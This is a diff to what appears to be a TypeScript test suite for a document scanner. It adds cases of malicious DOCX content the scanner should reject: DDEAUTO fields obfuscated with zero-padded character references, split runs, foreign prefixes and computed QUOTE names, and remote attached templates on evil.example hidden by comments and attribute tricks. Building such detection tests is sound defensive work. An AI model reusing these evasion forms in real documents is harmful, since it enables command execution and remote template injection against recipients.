@@ -1,5 +1,5 @@
 import { compoundFile, docFile, officeFile, wordStream, zipFile } from "../harness/documents";
-import { joined, latin, program, under, wrong } from "./bad";
+import { broken, joined, latin, program, type Row, under, wrong } from "./bad";
 import { type Relation, relationships, wordFile, wordText } from "./word";
 
 const starts = /holds or starts another program.*Please save it as a PDF/;
@@ -99,6 +99,39 @@ const fields = under("a.docx", [
     starts,
   ],
   [
+    "a DOCX with DDEAUTO under references with zeros",
+    () => wordText(field(run("&#x0000044;&#00000068;EAUTO c:"))),
+    wrong,
+    starts,
+  ],
+  [
+    "a DOCX with DDEAUTO in pieces under another prefix",
+    () => wordText(`<w-x:fldChar w-x:fldCharType="begin"/>${run("DD")}${run("EAUTO c:")}${mark("end")}`),
+    wrong,
+    starts,
+  ],
+  [
+    "a DOCX with DDEAUTO in an attribute under another prefix",
+    () => wordText('<w-x:fldSimple w-x:instr="DDEAUTO c:"/>'),
+    wrong,
+    starts,
+  ],
+  [
+    "a DOCX whose field begins in one namespace and ends in another",
+    () =>
+      wordText(`<w:fldChar y:fldCharType="end" w:fldCharType="begin"/>${run("DD")}${run("EAUTO c:")}${mark("end")}`),
+    broken,
+    /unsafe.*Please/,
+  ],
+  ...["&#32;", "DD"].map(
+    (before): Row => [
+      `a DOCX with a field name that another one computes after ${before}`,
+      () => wordText(field(run(before), field(run('QUOTE "DDEAUTO"')), run("c:"))),
+      wrong,
+      starts,
+    ],
+  ),
+  [
     "a DOCX with DDEAUTO in pieces whose beginning is a reference",
     () => wordText(`<w:p>${mark("b&#101;gin")}${run("DD")}${run("EAUTO c:")}${mark("end")}</w:p>`),
     wrong,
@@ -180,6 +213,47 @@ const fields = under("a.docx", [
     fetches,
   ],
   ["a DOCX with a field that links to a tool", () => wordText(field(run('HYPERLINK "ms-msdt:/id x"'))), wrong, link],
+]);
+
+const templates = (xml: string) =>
+  wordFile({ "word/_rels/settings.xml.rels": `<Relationships>${xml}</Relationships>` });
+const template = 'Type="http://x/attachedTemplate"';
+const remote = "http://evil.example/t.dotm";
+
+const hidden = under("a.docx", [
+  [
+    "a DOCX with a template of the web whose address looks like a mode",
+    () => templates(`<Relationship ${template} Target="${remote}?a TargetMode='Internal'" TargetMode="External"/>`),
+    wrong,
+    fetches,
+  ],
+  [
+    "a DOCX with a template of the web whose address looks like a mode, the other way round",
+    () => templates(`<Relationship ${template} Target='${remote}?a TargetMode="Internal"' TargetMode='External'/>`),
+    wrong,
+    fetches,
+  ],
+  [
+    "a DOCX with a template of the web under references with zeros",
+    () => templates(`<Relationship ${template} Target="${remote}" TargetMode="&#x0000045;xternal"/>`),
+    wrong,
+    fetches,
+  ],
+  [
+    "a DOCX with a template of the web between comments",
+    () =>
+      templates(
+        `<!-- <Relationship Type="x" Target="y" TargetMode="Internal" ' --><Relationship ${template} Target="${remote}" TargetMode="External"/><!-- ' > -->`,
+      ),
+    wrong,
+    fetches,
+  ],
+  [
+    "a DOCX with a template of the web under a prefix",
+    () => templates(`<ä:Relationship ${template} Target="${remote}" TargetMode="External"/>`),
+    wrong,
+    fetches,
+  ],
 ]);
 
 const links = under("a.docx", [
@@ -267,4 +341,4 @@ const nested = under("a.docx", [
 ]);
 
 /** Word documents that run, fetch or carry something. */
-export const badWordActive = [...embedded, ...fields, ...links, ...old, ...nested];
+export const badWordActive = [...embedded, ...fields, ...hidden, ...links, ...old, ...nested];
